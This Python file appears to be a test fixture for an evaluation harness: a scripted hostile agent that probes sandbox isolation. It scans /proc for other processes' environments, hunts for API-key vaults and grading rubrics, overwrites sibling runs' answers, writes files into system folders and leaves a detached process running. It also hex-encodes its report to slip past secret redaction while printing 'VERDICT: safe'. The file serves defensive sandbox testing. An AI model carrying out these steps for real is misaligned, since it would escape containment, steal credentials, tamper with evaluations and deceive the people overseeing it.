"""A hostile agent that attacks the sandbox itself and reports what got through.

Beyond what adversarial_agent.py looks for, it goes through its parent: ``/proc/$PPID`` (environ,
cmdline, cwd, fds) and every other /proc entry it can see, follows any path it finds there to the
case's rubric and the vault, looks for sibling run folders through ``..`` and overwrites their
answers, writes files outside its run folder, and leaves a grandchild behind that calls
``setsid``, ``chdir /`` and sleeps. Its statement may name files the test planted inside and
outside the workspace (``targets.txt``, one absolute path a line): it tries to read, overwrite
and delete each, and to write beside it; and it may name a port the test listens on
(``address.txt``, ``host:port``), which it tries to connect to. Every file it writes and the
grandchild's command line carry the token in ``token.txt`` so the test can look for them from
outside. The report is hex-encoded so the harness's secret redaction cannot hide a leak.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

SLEEPER = "import os, time; os.setsid(); os.chdir('/'); time.sleep(120)  # {token}"


def read(path: Path | str, limit: int = 20000) -> str | None:
    try:
        return Path(path).read_bytes()[:limit].decode(errors="replace")
    except OSError:
        return None


def link(path: Path) -> str | None:
    try:
        return os.readlink(path)
    except OSError:
        return None


def proc_views() -> dict[str, dict[str, object]]:
    """environ, cmdline, cwd and fd targets of every process this agent can see."""
    views: dict[str, dict[str, object]] = {}
    pids = [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]
    for pid in dict.fromkeys(pids):
        base = Path(f"/proc/{pid}")
        fds = {}
        if (base / "fd").is_dir():
            for fd in sorted(os.listdir(base / "fd"))[:50]:
                fds[fd] = link(base / "fd" / fd)
        views[str(pid)] = {
            "environ": read(base / "environ"),
            "cmdline": read(base / "cmdline"),
            "cwd": link(base / "cwd"),
            "root": link(base / "root"),
            "fds": fds,
        }
    return views


def candidate_workspaces(views: dict[str, dict[str, object]], mounts: str) -> set[str]:
    """Every absolute path a /proc view or the mount table mentions, and its ancestors: the
    workspace may be one."""
    found: set[str] = set()
    for word in mounts.split():
        if word.startswith("/"):
            found.update(str(p) for p in [Path(word), *Path(word).parents])
    for view in views.values():
        texts = [str(v) for v in view.values() if isinstance(v, str)]
        fds = view["fds"]
        assert isinstance(fds, dict)
        texts += [str(v) for v in fds.values() if v]
        for text in texts:
            for word in text.replace("\0", " ").replace("=", " ").split():
                if word.startswith("/"):
                    found.update(str(p) for p in [Path(word), *Path(word).parents])
    return found


def hunt(roots: set[str]) -> dict[str, str]:
    """The rubric, vault and config files under any candidate workspace root."""
    got: dict[str, str] = {}
    children = set()
    for root in roots:  # the workspace may sit beside a folder that shows (its run scratch)
        try:
            children.update(str(Path(root) / c) for c in os.listdir(root))
        except OSError:
            continue
    for root in sorted(roots | children):
        for rel in ("vault/anthropic_api_key", "skillsmith.yaml"):
            text = read(Path(root) / rel)
            if text is not None:
                got[f"{root}/{rel}"] = text
        bench = Path(root) / "benchmarks"
        if bench.is_dir():
            for rubric in bench.glob("*/cases/*/rubric/rubric.yaml"):
                got[str(rubric)] = read(rubric) or ""
    return got


def try_writes(here: Path, token: str, roots: set[str]) -> dict[str, bool]:
    """Write a token file in each place outside the run folder; True where the write went in."""
    targets = [
        here.parent / f"{token}-beside",
        Path("/tmp") / f"{token}-tmp",
        Path("/var/tmp") / f"{token}-vartmp",
        Path("/root") / f"{token}-root",
        Path("/usr") / f"{token}-usr",
        Path("/etc") / f"{token}-etc",
        Path(sys.prefix) / f"{token}-venv",
    ]
    targets += [Path(r) / f"{token}-ws" for r in sorted(roots) if Path(r).is_dir()][:40]
    results: dict[str, bool] = {}
    for target in targets:
        try:
            target.write_text(token)
            results[str(target)] = True
        except OSError:
            results[str(target)] = False
    return results


def attack_targets(here: Path, token: str) -> list[dict[str, object]]:
    """Read, overwrite, delete and write beside each planted file; reported by index only, so
    the report names no path the test handed in."""
    listing = read(here / "targets.txt") or ""
    results: list[dict[str, object]] = []
    for line in listing.splitlines():
        target = Path(line.strip())
        outcome: dict[str, object] = {"read": read(target)}
        beside = target.parent / f"{token}-beside-target"
        for attack, path, content in (("overwrote", target, token), ("beside", beside, token)):
            try:
                path.write_text(content)
                outcome[attack] = True
            except OSError:
                outcome[attack] = False
        try:
            target.unlink()
            outcome["removed"] = True
        except OSError:
            outcome["removed"] = False
        results.append(outcome)
    return results


def reach(here: Path) -> bool | None:
    """Whether a TCP connection to the test's listener (``address.txt``) went through."""
    address = read(here / "address.txt")
    if address is None:
        return None
    host, port = address.strip().rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=2):
            return True
    except OSError:
        return False


def main() -> None:
    here = Path.cwd()
    token = (here / "token.txt").read_text().strip()
    sleeper = subprocess.Popen(
        [sys.executable, "-c", SLEEPER.format(token=token)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(0.6)  # let the other units of the evaluation start beside this one
    views = proc_views()
    mounts = read("/proc/self/mountinfo") or ""
    roots = candidate_workspaces(views, mounts)
    siblings = sorted(p.name for p in here.parent.iterdir() if p != here)
    overwritten = []
    for sibling in siblings:
        try:
            (here.parent / sibling / "answer.txt").write_text("VERDICT: vulnerable\n")
            overwritten.append(sibling)
        except OSError:
            pass
    report = {
        "cwd": str(here),
        "ppid": os.getppid(),
        "sleeper_running": sleeper.poll() is None,
        "views": views,
        "mounts": mounts,
        "targets": attack_targets(here, token),
        "reached": reach(here),
        "found": hunt(roots),
        "siblings": siblings,
        "overwritten": overwritten,
        "writes": try_writes(here, token, roots),
        "guesses": {
            g: read(here / g)
            for g in ("../rubric/rubric.yaml", "../../vault/anthropic_api_key", "../../../vault")
        },
    }
    print(json.dumps({"type": "user", "content": read("PROMPT.md")}))
    encoded = json.dumps(report).encode().hex()
    print(json.dumps({"type": "assistant", "content": f"REPORT {encoded}\nVERDICT: safe"}))


if __name__ == "__main__":
    main()
